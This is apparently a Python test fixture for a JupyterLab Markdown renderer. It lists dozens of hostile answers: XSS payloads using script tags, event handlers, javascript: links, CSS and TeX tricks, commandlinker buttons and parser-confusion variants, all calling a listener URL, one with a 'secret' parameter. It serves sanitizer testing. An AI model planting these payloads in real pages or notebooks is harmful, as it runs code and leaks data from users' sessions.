"""Hostile answers: they try to load, run, click or deceive.

A payload that works sends a request to the listener at ``{url}``, opens a dialog, writes ``pwned``
to the console, changes ``window.pwned``, or runs a command of JupyterLab.
"""

from __future__ import annotations

_RUN = "fetch('{url}/ran'); console.log('pwned'); window.pwned = 1"
_COMMAND = 'data-commandlinker-command="notebook:insert-cell-below" data-commandlinker-args="{{}}"'

# Payloads that work in Jupyter's own Markdown in a trusted output: a check of the watchers.
POTENT = (
    "![image]({url}/image.png?secret=1)",
    "<script>" + _RUN + "</script>",
    '<img src="{url}/img">',
    '<img src="x:" onerror="' + _RUN + '">',
)

PAYLOADS = (
    *POTENT,
    # Loads
    "![reference][pic]\n\n[pic]: {url}/reference.png",
    '![title]({url}/titled.png "title")',
    "[![linked]({url}/linked.png)]({url}/target)",
    '<img srcset="{url}/srcset 2x" src="data:image/png;base64,AAAA">',
    '<picture><source srcset="{url}/source"><img src="data:,"></picture>',
    '<svg><image href="{url}/svg" /><use href="{url}/use.svg#a" /></svg>',
    '<video src="{url}/video" poster="{url}/poster" autoplay></video>',
    '<audio src="{url}/audio" autoplay></audio>',
    '<link rel="stylesheet" href="{url}/style.css"><link rel="prefetch" href="{url}/prefetch">',
    "<style>@import url('{url}/import.css'); body {{ background: url({url}/css) !important }}</style>",
    '<p style="background: url({url}/inline-style)">styled</p>',
    '<iframe src="{url}/frame"></iframe>',
    '<iframe srcdoc="<img src={url}/srcdoc>"></iframe>',
    '<object data="{url}/object"></object><embed src="{url}/embed">',
    '<meta http-equiv="refresh" content="0; url={url}/refresh">',
    '<base href="{url}/base/">',
    '<body background="{url}/body"><table background="{url}/table"><tr><td>x</td></tr></table>',
    '<input type="image" src="{url}/input">',
    '<math><mtext><img src="{url}/math"></mtext></math>',
    # Runs
    '<svg onload="' + _RUN + '"></svg>',
    '<details open ontoggle="' + _RUN + '"><summary>open</summary>x</details>',
    '<input autofocus onfocus="' + _RUN + '">',
    '<iframe src="javascript:parent.' + "console.log('pwned')" + '"></iframe>',
    "<script src='{url}/script.js'></script>",
    '<script type="module">import "{url}/module.js"</script>',
    # Fences and code that break out of an attribute
    '```"><img src="{url}/fence" onerror="' + _RUN + '">\ncode\n```',
    '```python" style="background:url({url}/info)\nprint(1)\n```',
    "````html\n<img src='{url}/in-code'>\n````",
    '`"><img src={url}/span>`',
    # Mathematics with links, styles, loading or definitions
    r"$\href{{javascript:console.log('pwned')}}{{x}}$ and $\href{{{url}/tex}}{{y}}$",
    r"$$\require{{html}}\style{{background:url({url}/tex-style)}}{{x}}$$",
    r"$\unicode{{x3c}}\text{{<img src={url}/tex-text onerror=console.log('pwned')>}}$",
    r"$$\includegraphics{{{url}/tex-image}}$$",
    r"\(\class{{jp-pwned}}{{x}} \cssId{{pwned}}{{y}} \def\x{{\x\x}}\x\)",
    # Clicks
    "[run](javascript:console.log('pwned'))",
    "[run](JaVaScRiPt&colon;console.log('pwned'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[relative](../api/kernels) and [root](/logout) and [no scheme](//127.0.0.1/x)",
    "<javascript:console.log('pwned')>",
    "<button " + _COMMAND + ">Click me</button>",
    "<a href='#' " + _COMMAND + ">Click me</a>",
    '<form action="{url}/form"><button>Send</button></form>',
    '<a href="{url}/ping-target" ping="{url}/ping">ping</a>',
    '<div class="jp-RenderedHTMLCommon"><a download href="{url}/download">x</a></div>',
    '<label for="pwned" onclick="' + _RUN + '">label</label>',
    # Payloads that are hostile only when pieces are joined, or when half of one is there
    '<img src=\n\n"{url}/split"\n\n>',
    "| a |\n|---|\n| <img src={url}/cell> |",
    "> <img src={url}/quote>\n\n- <img src={url}/item>",
    "Term\n\n<!-- --><img src={url}/comment> <!--> <img src={url}/comment2> -->",
    '<noscript><p title="</noscript><img src={url}/noscript>">',
    "<template><img src={url}/template></template><textarea></textarea><img src={url}/textarea>",
    "<![CDATA[<img src={url}/cdata>]]> <?php <img src={url}/pi> ?>",
    "&lt;img src={url}/entity&gt; &#60;img src={url}/entity2&#62;",
)


def payloads(url: str) -> list[str]:
    """Return every payload with the URL of a listener."""
    return [payload.format(url=url) for payload in PAYLOADS]


def potent_payloads(url: str) -> list[str]:
    """Return the payloads that work in a page that shows them without sanitizing."""
    return [payload.format(url=url) for payload in POTENT]
